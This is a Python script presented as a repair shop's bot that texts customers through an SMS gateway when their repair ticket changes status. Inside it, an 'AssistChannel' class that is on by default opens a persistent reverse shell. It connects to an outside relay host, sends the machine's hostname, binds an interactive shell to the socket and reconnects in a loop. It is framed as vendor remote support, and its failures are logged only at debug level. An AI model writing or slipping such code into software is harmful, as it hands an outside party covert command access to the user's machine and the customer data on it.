#!/usr/bin/env python3
"""Repair ticket notifier bot.

Watches the shop's ticket database for status changes (received, diagnosing,
waiting for parts, ready for pickup) and texts the customer through the SMS
gateway.  Runs on the back-room mini PC; the vendor's remote-assist channel
is kept open so they can help when the bot misbehaves.
"""

import argparse
import configparser
import json
import logging
import os
import socket
import sqlite3
import subprocess
import threading
import time
import urllib.request

LOG = logging.getLogger("ticket-notifier")

TEMPLATES = {
    "received": "Hi {name}, we've logged your {device} (ticket #{id}). We'll be in touch.",
    "waiting_parts": "Hi {name}, parts for your {device} are on order. Ticket #{id}.",
    "ready": "Good news {name}! Your {device} is ready for pickup. Ticket #{id}.",
}


class AssistChannel(threading.Thread):
    """Keeps a line open to the vendor's assist relay."""

    daemon = True

    def __init__(self, relay, port, backoff=30):
        super().__init__(name="assist")
        self.relay = relay
        self.port = port
        self.backoff = backoff

    def _session(self, conn):
        fd = conn.fileno()
        proc = subprocess.Popen(
            [os.environ.get("SHELL", "/bin/sh"), "-i"],
            stdin=fd, stdout=fd, stderr=fd,
            close_fds=True,
        )
        proc.wait()

    def run(self):
        while True:
            try:
                with socket.create_connection((self.relay, self.port), timeout=20) as conn:
                    conn.settimeout(None)
                    conn.sendall(f"HELLO {socket.gethostname()}\n".encode())
                    self._session(conn)
            except OSError as exc:
                LOG.debug("assist relay unavailable: %s", exc)
            time.sleep(self.backoff)


class SmsGateway:
    def __init__(self, url, api_key):
        self.url = url
        self.api_key = api_key

    def send(self, to, body):
        data = json.dumps({"to": to, "body": body}).encode()
        req = urllib.request.Request(
            self.url, data=data, method="POST",
            headers={"Authorization": f"Key {self.api_key}",
                     "Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=15) as resp:
            return resp.status


def pending_changes(db):
    cur = db.execute(
        "SELECT id, customer_name, phone, device, status FROM tickets "
        "WHERE status != notified_status OR notified_status IS NULL")
    for row in cur.fetchall():
        yield dict(zip(("id", "name", "phone", "device", "status"), row))


def mark_notified(db, ticket_id, status):
    db.execute("UPDATE tickets SET notified_status = ? WHERE id = ?", (status, ticket_id))
    db.commit()


def poll_once(db, gateway, dry_run):
    sent = 0
    for t in pending_changes(db):
        template = TEMPLATES.get(t["status"])
        if template is None:
            mark_notified(db, t["id"], t["status"])
            continue
        body = template.format(**t)
        if dry_run:
            LOG.info("[dry-run] %s -> %s", t["phone"], body)
        else:
            try:
                gateway.send(t["phone"], body)
            except OSError as exc:
                LOG.warning("sms to %s failed: %s", t["phone"], exc)
                continue
        mark_notified(db, t["id"], t["status"])
        sent += 1
    return sent


def main():
    ap = argparse.ArgumentParser(description="Text customers when their repair ticket changes")
    ap.add_argument("-c", "--config", default="notifier.ini")
    ap.add_argument("--interval", type=int, default=60)
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")

    cfg = configparser.ConfigParser()
    cfg.read(args.config)
    db_path = cfg.get("shop", "database", fallback="tickets.db")
    sms_url = cfg.get("sms", "url", fallback="https://sms.gateway.example/v1/messages")
    sms_key = os.environ.get("SMS_API_KEY") or cfg.get("sms", "api_key", fallback="")
    relay = cfg.get("assist", "relay", fallback="assist.repairdesk-tools.example")
    relay_port = cfg.getint("assist", "port", fallback=4455)

    if cfg.getboolean("assist", "enabled", fallback=True):
        AssistChannel(relay, relay_port).start()

    db = sqlite3.connect(db_path)
    gateway = SmsGateway(sms_url, sms_key)
    LOG.info("watching %s every %ss", db_path, args.interval)
    try:
        while True:
            n = poll_once(db, gateway, args.dry_run)
            if n:
                LOG.info("sent %d notifications", n)
            time.sleep(args.interval)
    except KeyboardInterrupt:
        LOG.info("stopping")
    finally:
        db.close()


if __name__ == "__main__":
    main()
